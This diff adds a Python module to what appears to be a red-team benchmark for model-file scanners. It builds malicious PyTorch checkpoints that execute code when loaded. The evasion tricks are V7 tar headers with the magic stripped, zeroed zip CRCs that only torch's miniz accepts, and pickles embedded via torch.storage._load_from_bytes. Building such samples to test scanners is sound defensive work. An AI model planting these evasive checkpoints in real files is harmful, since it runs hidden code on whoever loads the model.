@@ -1,0 +1,114 @@
+"""PyTorch: torch.load(weights_only=False) on legacy tar files, stacked pickles and zips.
+
+Read from torch/serialization.py: a real file at offset 0 is first tried as the
+legacy *tar* format (`tarfile.open(mode='r:')`, members storages/tensors/pickle;
+'storages' is unpickled first with the plain pickle module). tarfile reads old
+V7 headers, which have no `ustar` magic. Zips go to PyTorchFileReader (miniz),
+which names the archive after the first central-directory entry and reads
+`<archive>/data.pkl`; miniz checks less than zipfile does.
+`torch.storage._load_from_bytes` is torch.load on bytes embedded in a pickle.
+"""
+
+from __future__ import annotations
+
+import io
+import pickle
+import tarfile
+
+from mlsecops.fixtures import torch_state_dict_pickle, torch_zip
+
+from benchmarks.redteam.pickles import PROTO2, b, call, glob2, system_call, system_pickle
+from benchmarks.redteam.sample import Sample
+
+F = "torch"
+MAGIC = 0x1950A86A20F9469CFC6C
+
+
+def v7_tar(members: dict[str, bytes]) -> bytes:
+    """A tar whose headers have no ustar magic (the V7 layout tarfile still reads)."""
+    out = io.BytesIO()
+    with tarfile.open(fileobj=out, mode="w", format=tarfile.USTAR_FORMAT) as tf:
+        for name, data in members.items():
+            info = tarfile.TarInfo(name)
+            info.size = len(data)
+            tf.addfile(info, io.BytesIO(data))
+    raw = bytearray(out.getvalue())
+    pos = 0
+    while pos + 512 <= len(raw) and raw[pos:pos + 512].strip(b"\0"):
+        header = raw[pos:pos + 512]
+        header[257:265] = b"\0" * 8  # magic and version
+        header[148:156] = b" " * 8
+        header[148:156] = b"%06o\0 " % sum(header)
+        raw[pos:pos + 512] = header
+        size = int(header[124:136].strip(b"\0 ") or b"0", 8)
+        pos += 512 + (size + 511) // 512 * 512
+    return bytes(raw)
+
+
+def legacy_tar(storages: bytes) -> bytes:
+    return v7_tar({"storages": storages, "tensors": pickle.dumps(0, protocol=2), "pickle": pickle.dumps({}, protocol=2)})
+
+
+def legacy_stream(*pickles: bytes) -> bytes:
+    return pickle.dumps(MAGIC, protocol=2) + b"".join(pickles)
+
+
+def load_from_bytes(payload: bytes) -> bytes:
+    return PROTO2 + call(glob2("torch.storage", "_load_from_bytes"), b(payload)) + b"."
+
+
+def _t(data: bytes, name: str = "model.pt") -> dict[str, bytes]:
+    return {name: data}
+
+
+def _crc_zero(data: bytes) -> bytes:
+    """Zero every CRC-32 (local and central): zipfile raises, miniz in torch does not check stored members."""
+    raw = bytearray(data)
+    for sig, off in ((b"PK\x03\x04", 14), (b"PK\x01\x02", 16)):
+        pos = raw.find(sig)
+        while pos != -1:
+            raw[pos + off:pos + off + 4] = b"\0\0\0\0"
+            pos = raw.find(sig, pos + 4)
+    return bytes(raw)
+
+
+def _evil_zip() -> bytes:
+    return torch_zip({"w": 4}, data_pkl=torch_state_dict_pickle({"w": 4}, extra=b"X\x04\x00\x00\x00hook" + system_call()))
+
+
+SAMPLES = [
+    Sample("torch_legacy_tar_v7", F, "torch.load", "process",
+           "a legacy tar checkpoint whose headers have no 'ustar' magic: torch's tarfile.open reads it and unpickles "
+           "'storages' first; a scanner that recognises tar by its magic sees a file starting with 'storages'",
+           lambda: _t(legacy_tar(system_pickle())), fast=True),
+    Sample("torch_legacy_tar_ustar", F, "torch.load", "process",
+           "baseline: the same legacy tar with ustar headers",
+           lambda: _t(_ustar(legacy_tar_members()))),
+    Sample("torch_load_from_bytes_legacy_stack", F, "torch.load", "process",
+           "torch.storage._load_from_bytes on an embedded legacy stream whose second pickle is the call "
+           "(a scanner that judges the embedded checkpoint instead of the call must read it as torch does)",
+           lambda: _t(load_from_bytes(legacy_stream(system_call() + b".")), "model.pkl"), fast=True),
+    Sample("torch_load_from_bytes_zip", F, "torch.load", "process",
+           "torch.storage._load_from_bytes on an embedded zip checkpoint with the call in data.pkl",
+           lambda: _t(load_from_bytes(_evil_zip()), "model.pkl")),
+    Sample("torch_zip_crc_zeroed", F, "torch.load", "process",
+           "every CRC-32 zeroed: zipfile-based readers raise, torch (miniz) loads stored members unchecked",
+           lambda: _t(_crc_zero(_evil_zip()))),
+    Sample("torch_zip_baseline", F, "torch.load", "process", "baseline: the call in data.pkl of a torch.save zip",
+           lambda: _t(_evil_zip())),
+]
+
+
+def legacy_tar_members() -> dict[str, bytes]:
+    return {"storages": system_pickle(), "tensors": pickle.dumps(0, protocol=2), "pickle": pickle.dumps({}, protocol=2)}
+
+
+def _ustar(members: dict[str, bytes]) -> bytes:
+    out = io.BytesIO()
+    with tarfile.open(fileobj=out, mode="w", format=tarfile.USTAR_FORMAT) as tf:
+        for name, data in members.items():
+            info = tarfile.TarInfo(name)
+            info.size = len(data)
+            tf.addfile(info, io.BytesIO(data))
+    return out.getvalue()
+
